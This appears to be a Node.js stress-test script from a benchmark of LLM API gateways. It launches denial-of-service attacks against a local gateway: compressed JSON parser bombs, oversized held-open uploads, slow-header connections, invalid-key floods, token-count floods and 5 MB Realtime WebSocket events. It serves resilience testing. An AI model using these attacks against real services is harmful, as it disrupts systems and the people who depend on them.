// Runs one attack on a gateway of the benchmark, for at most a minute. Arguments: attack, gateway
// port, port for a Realtime provider, API key.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { WebSocket, WebSocketServer } from 'ws'

const MINUTE_MS = 60_000
const [, , attack = '', port = '', realtimePort = '', key = ''] = process.argv

setTimeout(() => process.exit(0), MINUTE_MS)

const chat = (rest) => `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"x"}],${rest}}`

/**
 * Small on the wire and expensive to parse: each body once stalled the process for a second or
 * more.
 */
const BOMBS = [
  chat(`"z":[${'1,'.repeat(16_000_000)}1]`),
  chat(`"z":[${'"",'.repeat(10_000_000)}""]`),
  chat(`"z":[${'1e9,'.repeat(8_000_000)}1]`),
  chat(`"z":[${'{},'.repeat(10_000_000)}{}]`),
  chat(`"z":${'['.repeat(16_000_000)}`),
  chat(`"z":"${'\\u0061'.repeat(5_000_000)}"`),
].map((text) => gzipSync(text))

const address = `http://127.0.0.1:${port}`

async function post(path, body, headers = {}) {
  const response = await fetch(address + path, {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/json', authorization: `Bearer ${key}`, ...headers },
    signal: AbortSignal.timeout(30_000),
  })
  await response.arrayBuffer()
}

/** Runs `count` loops, each of which sends its next request after an answer. */
function keepAsking(count, ask) {
  const one = async (at) => {
    for (;;) {
      await ask(at).catch(() => {})
      await sleep(1)
    }
  }
  for (let at = 0; at < count; at += 1) void one(at)
}

function openHead(head) {
  const socket = connect(Number(port), '127.0.0.1')
  socket.on('error', () => {})
  socket.write(head)
  return socket
}

const ATTACKS = {
  bombs: () =>
    keepAsking(12, (at) =>
      post('/v1/chat/completions', BOMBS[at % BOMBS.length], { 'content-encoding': 'gzip' }),
    ),

  uploads: () => {
    const length = 33_554_422
    for (let at = 0; at < 17; at += 1) {
      const socket = openHead(
        `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\n` +
          `Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`,
      )
      socket.write(Buffer.alloc(length - 1000, ' '))
    }
  },

  heads: () =>
    keepAsking(500, async () => {
      const socket = openHead('POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n')
      for (let at = 0; at < 30 && !socket.destroyed; at += 1) {
        await sleep(1000)
        if (!socket.destroyed) socket.write(`X-${at}: y\r\n`)
      }
      socket.destroy()
    }),

  keys: () =>
    keepAsking(20, () =>
      post('/v1/chat/completions', '{}', { authorization: `Bearer sk-${Math.random()}` }),
    ),

  counts: () => {
    const texts = ['a'.repeat(65_000), '汉字漢字'.repeat(8_000), 'word '.repeat(50_000)]
    const bodies = texts.map((content) =>
      gzipSync(JSON.stringify({ model: 'gpt-4', messages: [{ role: 'user', content }] })),
    )
    keepAsking(12, (at) =>
      post('/v1/messages/count_tokens', bodies[at % bodies.length], {
        'content-encoding': 'gzip',
      }),
    )
  },

  /** A client and its provider both send events of 5 MB. */
  realtime: async () => {
    const list = `[${'1,'.repeat(2_500_000)}1]`
    const provider = new WebSocketServer({ port: Number(realtimePort), host: '127.0.0.1' })
    provider.on('connection', (socket) => {
      socket.on('error', () => {})
      socket.send('{"type":"session.created","session":{"type":"realtime"}}')
      const timer = setInterval(
        () => socket.send(`{"type":"rate_limits.updated","z":${list}}`),
        500,
      )
      socket.on('close', () => clearInterval(timer))
    })
    keepAsking(4, async () => {
      const client = new WebSocket(`ws://127.0.0.1:${port}/v1/realtime?model=gpt-realtime`, {
        headers: { authorization: `Bearer ${key}` },
      })
      client.on('error', () => {})
      const isOpen = await new Promise((resolve) => {
        client.on('open', () => resolve(true))
        client.on('close', () => resolve(false))
      })
      for (let at = 0; at < 20 && isOpen && client.readyState === client.OPEN; at += 1) {
        client.send(`{"type":"conversation.item.create","item":{"type":"message","z":${list}}}`)
        await sleep(250)
      }
      client.terminate()
      await sleep(250)
    })
  },
}

await ATTACKS[attack]()
